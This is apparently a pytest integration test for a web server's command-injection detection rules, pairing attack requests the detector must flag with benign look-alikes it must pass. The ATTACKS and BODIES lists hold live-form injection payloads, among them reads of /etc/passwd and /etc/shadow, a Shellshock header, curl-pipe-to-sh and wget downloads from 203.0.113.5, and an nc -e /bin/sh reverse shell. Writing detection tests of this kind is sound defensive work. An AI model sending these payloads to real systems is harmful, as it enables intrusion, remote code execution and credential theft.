"""The shell detector in a real httpd: its two shipped rules (500900
parameters, names, cookies; 500910 headers, Referer, User-Agent and path)
alone, with the shipped shell.words, flag command injection wherever the
rules say, with the detector's reason, and leave look-alikes alone.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
      /usr/bin/python3 -m pytest -q test/integration -k detect_shell
"""
import time

import lwhttpd

DETECTOR_RULES = (500900, 500910)


def detector_only(tmpdir):
    """The shipped shell detector rules and words alone."""
    return lwhttpd.detector_only(tmpdir, "50-rce.rules", DETECTOR_RULES,
                                 "shell.words")


# (request target, extra headers, rule id, field, reason prefix)
ATTACKS = [
    ("/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd", [], 500900, "args:host",
     "sh:;cat"),
    # quotes and backslash escapes undone
    ("/ping.php?host=x%3Bc%27%27a%5Ct%20/e%22%22tc/pa%5Cs%5Cswd", [],
     500900, "args:host", "sh:;cat"),
    ("/ping.php?host=%60id%60", [], 500900, "args:host", "sh:`id"),
    ("/ping.php?host=%26%20FOR%20/F%20%25i%20IN%20(%27whoami%27)%20DO%20"
     "echo%20%25i", [], 500900, "args:host", "cmd:"),
    ("/ping.php?host=%26%20powershell%20-enc%20SQBFAFgAIAAoAGkAdwByACkA", [],
     500900, "args:host", "ps:&powershell"),
    # in a parameter's name and in a cookie's value
    ("/p.php?%7Cwget%20http://203.0.113.5/x.sh=1", [], 500900, "arg_names",
     "sh:|wget"),
    ("/p.php", [("Cookie", "sid=abc; host=1$(uname -a)")], 500900, "cookie",
     "sh:$(uname"),
    ("/p.php", [("User-Agent", "() { :; }; /bin/bash -c \"cat /etc/passwd\"")],
     500910, "user_agent", "sh:() {"),
    ("/p.php", [("Referer", "http://example.com/;curl http://203.0.113.5|sh")],
     500910, "referer", "sh:;curl"),
    ("/api/items/1%3Bnc%20-e%20/bin/sh%20203.0.113.5%204444", [], 500910,
     "path", "sh:;nc"),
    # PowerShell's call operator on a computed name; a globbed binary path
    ("/ping.php?host=x%3B%26(%27ie%27%2B%27x%27)%20whoami", [], 500900,
     "args:host", "ps:&(computed)"),
    ("/ping.php?host=1%20/%3F%3F%3F/%3F%3Ft%20/%3F%3F%3F/p%3F%3Fswd", [],
     500900, "args:host", "sh:"),
    # the whole value a command: a wrapper running a probe, a WMI class
    ("/run.php?cmd=env%20id", [], 500900, "args:cmd", "sh:id"),
    ("/run.php?cmd=nohup+uname+-a", [], 500900, "args:cmd", "sh:uname"),
    ("/run.php?cmd=iwmi%20win32_process", [], 500900, "args:cmd", "ps:iwmi"),
    ("/p.php", [("User-Agent", "x; gwmi Win32_UserAccount")], 500910,
     "user_agent", "ps:;gwmi"),
    # a filter reading a secret, a shell fed by a typed line's pipe
    ("/s.php?q=x+y+%7C+grep+root+/etc/shadow", [], 500900, "args:q",
     "sh:|grep"),
    ("/s.php?q=ls+-la+%7C+sh", [], 500900, "args:q", "sh:|sh"),
]

BENIGN = [
    ("/search.php?q=cats+%26+dogs", []),
    ("/search.php?q=R%26D%3B+more+info", []),
    ("/search.php?q=for+i+in+range", []),
    ("/search.php?q=rock%7Cpaper%7Cscissors&fields=name%7Cid%7Cemail", []),
    ("/search.php?q=how+to+cat+a+file+in+linux&price=%245.00", []),
    ("/item.jsp;jsessionid=A1B2C3?q=100%25+cotton", []),
    ("/p.php", [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                 "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
                 "Safari/537.36")]),
    ("/p.php", [("Referer", "https://www.example.com/search?q=Tom+%26+Jerry")]),
    ("/search.php?q=%25APPDATA%25%5CMicrosoft%5CWindows%5CStart+Menu", []),
    ("/search.php?q=What+is+iex+in+PowerShell%3F", []),
    # command lines typed into a search box: a text filter after a pipe,
    # a lone command continuing the line, flags and a number, quoted data
    ("/search.php?q=cat+file.txt+%7C+wc+-l", []),
    ("/search.php?q=how+to+use+ls+-la+%7C+grep", []),
    ("/search.php?q=sort+%7C+uniq+-c", []),
    ("/search.php?q=Get-Process+%7C+Sort-Object+CPU", []),
    ("/search.php?q=cd+~+%26%26+ls", []),
    ("/search.php?q=head+-n+20+file.csv", []),
    ("/search.php?q=python+-m+http.server+8000", []),
    ("/search.php?q=ssh-keygen+-t+ed25519+-C+%22me%40example.com%22", []),
    ("/search.php?q=ldapsearch+-x+-b+%22dc%3Dexample%2Cdc%3Dcom%22+"
     "%22(uid%3Djohn)%22", []),
    ("/search.php?q=env+variables+in+docker+compose", []),
    ("/search.php?q=powershell+Get-ChildItem+recursive", []),
    ("/p.php", [("Referer", "https://www.google.com/search?q=how+to+use+ls+"
                 "-la+%7C+grep")]),
    ("/p.php", [("Referer", "https://duckduckgo.com/?q=sort+%7C+uniq+-c")]),
    # a path segment's ';' parameter holding such a line
    ("/docs/bash;how%20to%20use%20ls%20-la%20%7C%20grep", []),
    ("/kb/article;cat%20file.txt%20%7C%20wc%20-l", []),
]


def test_detect_shell_live(httpd_factory, tmp_path):
    h = httpd_factory(signatures=[detector_only(str(tmp_path))])
    for rec in lwhttpd.check_detector_live(h, ATTACKS, BENIGN):
        assert "rce" in rec["categories"]


# (body, content type, field prefix, reason prefix): the same classes in a
# form and a JSON body, read as the application gets them
BODIES = [
    (b"host=127.0.0.1%3Benv+id&x=1", "application/x-www-form-urlencoded",
     "body", "sh:;id"),
    (b'{"job": {"cmd": "iwmi win32_process"}}', "application/json", "body",
     "ps:iwmi"),
    (b'{"host": "8.8.8.8 && nohup whoami"}', "application/json", "body",
     "sh:&&whoami"),
]
BENIGN_BODIES = [
    (b"q=how+to+use+ls+-la+%7C+grep&page=2",
     "application/x-www-form-urlencoded"),
    (b'{"q": "cat file.txt | wc -l", "tags": ["sort | uniq -c"]}',
     "application/json"),
]


def test_detect_shell_bodies_live(httpd_factory, tmp_path):
    from test_body import with_cgi, digest
    h = httpd_factory(signatures=[detector_only(str(tmp_path))], start=False)
    with_cgi(h)
    h.start()
    for i, (body, ctype) in enumerate(BENIGN_BODIES):
        st, resp = h.post("/cgi/echo?clean=%d" % i, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
    for i, (body, ctype, field, why) in enumerate(BODIES):
        st, resp = h.post("/cgi/echo?t=%d" % i, body, ctype)
        assert st == 200 and resp.strip() == digest(body)
    recs = [r for r in h.wait_records(len(BODIES), pred=lwhttpd.is_attack)]
    time.sleep(0.3)                       # nothing more may come
    recs = [r for r in h.records() if lwhttpd.is_attack(r)]
    assert [r["uri"] for r in recs] == ["/cgi/echo?t=%d" % i
                                        for i in range(len(BODIES))]
    for rec, (_b, _c, field, why) in zip(recs, BODIES):
        hits = [x for x in rec["rules"] if x["id"] == 500900]
        assert hits, rec["rules"]
        assert hits[0]["field"].startswith(field), hits[0]
        assert hits[0]["detail"].startswith(why), hits[0]
